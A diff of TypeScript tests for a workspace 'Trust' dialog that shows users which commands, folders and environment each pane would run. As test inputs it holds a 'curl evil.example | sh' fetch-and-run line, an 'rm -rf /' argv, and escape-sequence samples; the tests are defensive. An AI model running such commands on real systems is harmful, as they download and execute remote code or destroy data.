@@ -1,7 +1,7 @@
 import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
 
-import type { IPane, ISnapshot, ISpace } from '../src/api';
+import type { IPane, IRunPlan, ISnapshot, ISpace } from '../src/api';
 import {
   UNTRUSTED_MESSAGE,
   commandLine,
@@ -142,13 +142,33 @@ describe('quoting commands for the Trust dialog', () => {
   });
 });
 
+function plan(over: Partial<IRunPlan> = {}): IRunPlan {
+  return {
+    pane_id: 'p1',
+    kind: 'command',
+    argv: ['python', '-m', 'http.server', '8000'],
+    env: {},
+    cwd: 'proj',
+    waits_for_enter: false,
+    prints: null,
+    notice: '',
+    then_shell: null,
+    session_id: null,
+    running: false,
+    ...over
+  };
+}
+
 describe('trustItems', () => {
-  it('lists what each pane would run, where, with which environment', () => {
+  it('lists what the server would run for each pane, where, with which environment', () => {
     const items = trustItems(
-      space([
-        pane({ env: { B: '2', A: 'x y' }, cwd: 'src', launch: { argv: ['python', '-m', 'http.server', '8000'] } }),
-        pane({ id: 'p2', kind: 'shell', title: '', argv: [], launch: { argv: ['/bin/bash', '-l'] } })
-      ])
+      {
+        plans: [
+          plan({ env: { B: '2', A: 'x y' }, cwd: 'proj/src', waits_for_enter: true }),
+          plan({ pane_id: 'p2', kind: 'shell', argv: ['/bin/bash', '-l'], prints: '.jupyter-spaces/screens/p2.txt' })
+        ]
+      },
+      space([pane(), pane({ id: 'p2', kind: 'shell', title: '' })])
     );
     assert.equal(items.length, 2);
     assert.deepEqual(items[0], {
@@ -158,70 +178,72 @@ describe('trustItems', () => {
       command: 'python -m http.server 8000',
       cwd: 'src',
       env: ["A='x y'", 'B=2'],
-      notes: []
+      notes: ['Waits for Enter before it runs.']
     });
     assert.equal(items[1].title, 'shell');
     assert.equal(items[1].command, '/bin/bash -l');
     assert.equal(items[1].cwd, '.');
+    assert.deepEqual(items[1].notes, ['First shows the saved text of .jupyter-spaces/screens/p2.txt, as plain text.']);
   });
 
-  it('shows the launch command that really runs, and the argv too when a file makes them differ', () => {
-    const [item] = trustItems(space([pane({ argv: ['ls'], launch: { argv: ['curl', 'evil.example', '|', 'sh'] } })]));
+  it('shows the plan, not what the file says elsewhere', () => {
+    // The pane's own fields say `ls`; the server would run what its plan says.
+    const [item] = trustItems({ plans: [plan({ argv: ['curl', 'evil.example', '|', 'sh'] })] }, space([pane({ argv: ['ls'] })]));
     assert.equal(item.command, "curl evil.example '|' sh");
-    assert.deepEqual(item.notes, ['The pane lists its command as: ls']);
   });
 
-  it('falls back to argv without a launch profile, and says so for agents', () => {
-    const [cmd, agent] = trustItems(
-      space([
-        pane(),
-        pane({
-          id: 'p3',
-          kind: 'agent',
-          agent: 'claude',
-          title: 'fix tests',
-          argv: ['claude'],
-          session_id: 'abc-123',
-          launch: { argv: ['claude'], args: ['--dangerously-skip-permissions'], model: 'opus' }
-        })
-      ])
+  it('says what an agent pane does around its command, and marks panes that run now', () => {
+    const [agent] = trustItems(
+      {
+        plans: [
+          plan({
+            kind: 'agent',
+            argv: ['claude', '--resume', 'abc', '--model', 'opus'],
+            then_shell: '/bin/bash',
+            running: true
+          })
+        ]
+      },
+      space([pane({ kind: 'agent', agent: 'claude', title: 'fix tests' })])
     );
-    assert.equal(cmd.command, 'python -m http.server 8000');
     assert.equal(agent.kind, 'Claude Code');
+    assert.equal(agent.command, 'claude --resume abc --model opus');
     assert.deepEqual(agent.notes, [
-      'With the flags: --dangerously-skip-permissions',
-      'Model: opus',
-      'Claude Code resumes its session abc-123.'
+      'It runs now; this is what it runs when it is started again.',
+      'When it ends, /bin/bash takes over.'
     ]);
   });
 
-  it('escapes hidden characters in titles, folders and environment', () => {
+  it('escapes hidden characters in titles, folders, commands and environment', () => {
     const [item] = trustItems(
-      space([pane({ title: 'ok\u202e', cwd: 'a\nb', env: { 'X\n': 'v\x1b' } })])
+      { plans: [plan({ cwd: 'proj/a\nb', env: { 'X\n': 'v\x1b' }, argv: ['echo', '\x1b[2J'] })] },
+      space([pane({ title: 'ok\u202e' })])
     );
     assert.equal(item.title, 'ok\\u202e');
     assert.equal(item.cwd, 'a\\nb');
     assert.deepEqual(item.env, ["$'X\\n'=$'v\\x1b'"]);
+    assert.equal(item.command, "echo $'\\x1b[2J'");
   });
 
-  it('survives a malformed pane', () => {
-    const broken = pane({ argv: 'rm -rf /' as unknown as string[], env: null as unknown as Record<string, string> });
-    const [item] = trustItems(space([broken]));
+  it('survives a malformed plan', () => {
+    const broken = plan({ argv: 'rm -rf /' as unknown as string[], env: null as unknown as Record<string, string> });
+    const [item] = trustItems({ plans: [broken] }, space([]));
     assert.equal(item.command, '');
     assert.deepEqual(item.env, []);
+    assert.equal(item.title, 'p1');
   });
 
   it('makes a plain text of it, one command per line', () => {
-    const text = trustText(space([pane({ argv: ['sh', '-c', 'echo a\necho b'] })]));
+    const text = trustText({ plans: [plan({ argv: ['sh', '-c', 'echo a\necho b'] })] }, space([pane()]));
     assert.equal(
       text,
       [
-        'Trusting proj starts its pane, which runs:',
+        'Trusting proj lets its pane run:',
         "• web (command, in the space's folder)",
         "    sh -c $'echo a\\necho b'"
       ].join('\n')
     );
-    assert.equal(trustText(space([])), 'The space has no panes: trusting it starts nothing.');
+    assert.equal(trustText({ plans: [] }, space([])), 'The space has no panes: trusting it starts nothing.');
   });
 });
 
